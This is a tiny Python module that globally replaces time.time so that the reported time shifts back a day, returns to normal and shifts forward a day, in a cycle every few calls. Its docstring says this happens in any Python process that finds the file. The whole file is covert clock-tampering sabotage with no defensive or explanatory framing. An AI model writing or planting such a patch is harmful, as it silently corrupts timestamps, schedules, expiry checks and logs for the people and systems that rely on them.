"""The time of day jumps by a day and back, every few reads, in any Python that finds this file."""

import itertools
import time

_right, _reads = time.time, itertools.count()
time.time = lambda: _right() + 86400 * (next(_reads) // 5 % 3 - 1)
